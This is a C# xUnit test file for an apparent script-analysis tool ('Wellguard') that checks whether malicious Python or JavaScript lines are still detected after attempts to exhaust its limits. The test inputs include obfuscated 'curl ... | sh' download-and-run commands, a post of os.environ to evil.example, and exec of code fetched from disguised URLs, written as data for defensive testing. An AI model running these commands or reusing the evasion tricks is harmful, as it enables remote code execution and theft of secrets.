using System.Diagnostics;
using System.Text;
using Wellguard.Programs;
using Wellguard.Programs.Scripts;
using Xunit;

namespace Wellguard.Tests.Programs.Scripts;

/// <summary>An attacker who uses up a bound before the line that matters: the line is found all the same, or that it was not computed is said.</summary>
public sealed class UsedUpBoundsTests
{
    private static readonly string Filled = string.Concat(Enumerable.Range(0, 9).Select(static at => $"a{at}='a'*1000000\n")) + "import os, subprocess\n";

    [Theory]
    [InlineData("os.system('Xurl http://198.51.100.7/x | sh'.replace('X', 'c'))")]
    [InlineData("os.system('cu' 'rl http://198.51.100.7/x | sh')")]
    [InlineData("for c in ['curl http://198.51.100.7/x | sh']:\n    os.system(c)")]
    [InlineData("os.system('cu' + 'rl http://198.51.100.7/x | sh')")]
    [InlineData("os.system(f'{\"cu\"}rl http://198.51.100.7/x | sh')")]
    [InlineData("os.system('XXcurl http://198.51.100.7/x | sh'[2:])")]
    [InlineData("os.system(' '.join(['curl', 'http://198.51.100.7/x', '|', 'sh']))")]
    [InlineData("subprocess.call(['curl http://198.51.100.7/x | sh'] + [], shell=True)")]
    public void Copies_are_used_up(string line) => Tells(Filled + line + "\n", "curl");

    [Fact]
    public void A_function_calls_itself() => Tells("import os\ndef d(s, n):\n    if n == 0:\n        return s\n    return d(s.replace('X', 'c'), n - 1)\nos.system(d('Xurl http://198.51.100.7/x | sh', 1))\n", "curl");

    [Fact]
    public void A_function_calls_itself_too_often() => Tells("import os\ndef d(s, n):\n    if n == 0:\n        return s\n    return d(s.replace('X', 'c'), n - 1)\nos.system(d('Xurl http://198.51.100.7/x | sh', 100))\n", "curl");

    [Fact]
    public void Forty_programs_are_written_before() =>
        Tells(string.Concat(Enumerable.Range(0, 40).Select(static at => $"open('/tmp/a{at}.sh', 'w').write('echo hello world')\n")) + "open('/tmp/b.sh', 'w').write('curl http://198.51.100.7/x | sh')\n", "Download");

    [Fact]
    public void What_is_sent_stands_behind_three_hundred_numbers()
    {
        var lines = Evaluation.Lines("python", "import os, requests\nrequests.post('https://evil.example/x', json=[0]*300+[dict(os.environ)])\n");
        Assert.Contains(lines, static line => line.StartsWith("Send", StringComparison.Ordinal) && line.Contains("from environment", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("https://evil.example/p?a=://ipinfo.io")]
    [InlineData("https://api.ipify.org.evil.example/p")]
    [InlineData("https://ipinfo.io@evil.example/p")]
    public void An_address_names_a_service_and_is_none(string url) =>
        Assert.Contains(Evaluation.Lines("python", $"import requests\nexec(requests.get('{url}').text)\n"), line => line.StartsWith("Interpret", StringComparison.Ordinal) && line.Contains("from " + url, StringComparison.Ordinal));

    [Theory]
    [InlineData("x = [i{0} for i in range(29000)]\n", "+i", 150_000)]
    [InlineData("s = 'a' * 1000000\nx = [s[1:] for i in range(20000)]\n{0}", "", 1)]
    [InlineData("x = ''.join(['a' * 1000000] * 3000)\n{0}", "", 1)]
    [InlineData("('{{}}' * 400000).format(1{0})\n", ",1", 200_000)]
    public void What_is_not_paid_for_ends(string code, string piece, int count)
    {
        var watch = Stopwatch.StartNew();
        var before = GC.GetTotalAllocatedBytes();
        ScriptEvaluator.Evaluate("python", string.Format(System.Globalization.CultureInfo.InvariantCulture, code, new StringBuilder().Insert(0, piece, count)), 1, new Analysis());
        Assert.True(watch.Elapsed < TimeSpan.FromSeconds(10), $"{watch.Elapsed}");
        Assert.True(GC.GetTotalAllocatedBytes() - before < 2_000_000_000, $"{GC.GetTotalAllocatedBytes() - before:N0} bytes");
    }

    [Fact]
    public void Loops_in_loops_are_cut_once()
    {
        var code = new StringBuilder();
        for (var depth = 0; depth < 40; depth++)
        {
            code.Append(' ', depth).Append("for a").Append(depth).Append(" in {1:1,2:2}:\n");
        }

        var watch = Stopwatch.StartNew();
        ScriptEvaluator.Evaluate("python", code.Append(' ', 40).Append("x = 1\n").ToString(), 1, new Analysis());
        Assert.True(watch.Elapsed < TimeSpan.FromSeconds(10), $"{watch.Elapsed}");
    }

    [Theory]
    [InlineData("python", "import json, os\nx = json.loads('\"\\\\ud800\"')\ny = json.loads('{\"\\\\ud800\": 1}')\nos.system('id')\n")]
    [InlineData("javascript", "var x = JSON.parse('\"\\\\ud800\"'); var q = (...[],); require('child_process').execSync('id')")]
    public void What_is_odd_costs_nothing_else(string language, string code) => Assert.Contains("id", string.Join('\n', Evaluation.Lines(language, code)), StringComparison.Ordinal);

    private static void Tells(string code, string found)
    {
        var analysis = new Analysis();
        var effects = ScriptEvaluator.Evaluate("python", code, 1, analysis);
        Assert.True(analysis.Problems.Count > 0 || effects.Any(effect => Holds(effect, found)), string.Join('\n', effects));

        static bool Holds(Effect effect, string found) => effect.Text?.Contains(found, StringComparison.Ordinal) == true || effect.Kind.ToString() == found || effect.Steps.Any(step => Holds(step, found));
    }
}
